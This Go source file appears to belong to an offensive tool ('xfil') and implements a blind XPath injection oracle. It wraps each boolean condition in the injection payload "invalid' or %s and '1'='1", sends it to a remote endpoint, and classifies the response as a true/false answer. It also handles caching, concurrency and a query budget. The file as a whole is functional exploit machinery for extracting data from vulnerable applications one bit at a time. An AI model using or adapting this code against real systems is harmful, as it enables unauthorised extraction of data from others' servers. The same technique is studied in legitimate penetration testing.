// Package oracle turns the remote endpoint into a yes/no answer channel.
// Each condition is embedded in a fixed injection template, sent once
// through the transport, and the response is classified into a verdict.
package oracle

import (
	"context"
	"errors"
	"fmt"
	"sync/atomic"
	"time"

	"github.com/ppiankov/xfil/internal/cache"
	"github.com/ppiankov/xfil/internal/model"
	"github.com/ppiankov/xfil/internal/transport"
	"github.com/ppiankov/xfil/internal/xpath"
	"go.uber.org/zap"
)

// InjectionTemplate closes the original string literal, makes the original
// test irrelevant, and lets the whole predicate hold only when the
// condition does. %s is replaced by the condition.
const InjectionTemplate = "invalid' or %s and '1'='1"

var (
	// ErrTransport marks a verdict that is Unknown because the request failed
	ErrTransport = errors.New("transport failure")

	// ErrBudgetExhausted is returned once the configured query budget is spent
	ErrBudgetExhausted = errors.New("query budget exhausted")
)

// Oracle answers boolean conditions about the remote document.
// A non-nil error always comes with VerdictUnknown.
type Oracle interface {
	Ask(ctx context.Context, cond xpath.Condition) (model.Verdict, error)
}

// Transport delivers one payload to the endpoint
type Transport interface {
	Send(ctx context.Context, payload string) (*transport.Response, error)
}

// IsAbort reports whether err must stop the traversal rather than be
// treated as a false answer
func IsAbort(err error) bool {
	return errors.Is(err, ErrBudgetExhausted) ||
		errors.Is(err, context.Canceled) ||
		errors.Is(err, context.DeadlineExceeded)
}

// Payload embeds cond in the injection template
func Payload(cond xpath.Condition) string {
	return fmt.Sprintf(InjectionTemplate, cond)
}

// Options configures an Adapter
type Options struct {
	Classifier Classifier
	Cache      cache.Cache   // Optional verdict cache
	CacheScope string        // Distinguishes targets sharing one cache
	CacheTTL   time.Duration // 0 uses the cache default
	MaxQueries int64         // 0 = unlimited
	Logger     *zap.Logger
}

// Adapter is the Oracle backed by a transport. It is safe for concurrent use.
type Adapter struct {
	transport  Transport
	classifier Classifier
	cache      cache.Cache
	scope      string
	cacheTTL   time.Duration
	maxQueries int64
	logger     *zap.Logger

	queries   atomic.Int64
	trues     atomic.Int64
	falses    atomic.Int64
	unknowns  atomic.Int64
	cacheHits atomic.Int64
}

// NewAdapter creates an Adapter over t
func NewAdapter(t Transport, opts Options) *Adapter {
	logger := opts.Logger
	if logger == nil {
		logger = zap.NewNop()
	}

	return &Adapter{
		transport:  t,
		classifier: opts.Classifier,
		cache:      opts.Cache,
		scope:      opts.CacheScope,
		cacheTTL:   opts.CacheTTL,
		maxQueries: opts.MaxQueries,
		logger:     logger,
	}
}

// Ask evaluates cond with a single request. Transport failures yield
// VerdictUnknown with an error wrapping ErrTransport; no retry happens here.
func (a *Adapter) Ask(ctx context.Context, cond xpath.Condition) (model.Verdict, error) {
	if err := ctx.Err(); err != nil {
		return model.VerdictUnknown, err
	}

	key := ""
	if a.cache != nil {
		key = cache.CacheKey(a.scope, string(cond))
		if v, ok := a.cachedVerdict(key); ok {
			a.cacheHits.Add(1)
			a.count(v)
			return v, nil
		}
	}

	if a.maxQueries > 0 {
		if a.queries.Add(1) > a.maxQueries {
			a.queries.Add(-1)
			return model.VerdictUnknown, ErrBudgetExhausted
		}
	} else {
		a.queries.Add(1)
	}

	resp, err := a.transport.Send(ctx, Payload(cond))
	if err != nil {
		if ctxErr := ctx.Err(); ctxErr != nil {
			return model.VerdictUnknown, ctxErr
		}
		a.unknowns.Add(1)
		a.logger.Warn("oracle request failed",
			zap.String("condition", string(cond)),
			zap.Error(err))
		return model.VerdictUnknown, fmt.Errorf("%w: %v", ErrTransport, err)
	}

	v := a.classifier.Classify(resp)
	a.count(v)

	if v != model.VerdictUnknown && a.cache != nil {
		if err := a.cache.Set(key, encodeVerdict(v), a.cacheTTL); err != nil {
			a.logger.Debug("verdict cache write failed", zap.Error(err))
		}
	}

	return v, nil
}

// Stats returns a snapshot of the counters
func (a *Adapter) Stats() model.Stats {
	return model.Stats{
		Queries:   a.queries.Load(),
		True:      a.trues.Load(),
		False:     a.falses.Load(),
		Unknown:   a.unknowns.Load(),
		CacheHits: a.cacheHits.Load(),
	}
}

func (a *Adapter) count(v model.Verdict) {
	switch v {
	case model.VerdictTrue:
		a.trues.Add(1)
	case model.VerdictFalse:
		a.falses.Add(1)
	default:
		a.unknowns.Add(1)
	}
}

func (a *Adapter) cachedVerdict(key string) (model.Verdict, bool) {
	data, ok := a.cache.Get(key)
	if !ok || len(data) != 1 {
		return model.VerdictUnknown, false
	}
	switch data[0] {
	case '1':
		return model.VerdictTrue, true
	case '0':
		return model.VerdictFalse, true
	default:
		return model.VerdictUnknown, false
	}
}

func encodeVerdict(v model.Verdict) []byte {
	if v == model.VerdictTrue {
		return []byte("1")
	}
	return []byte("0")
}
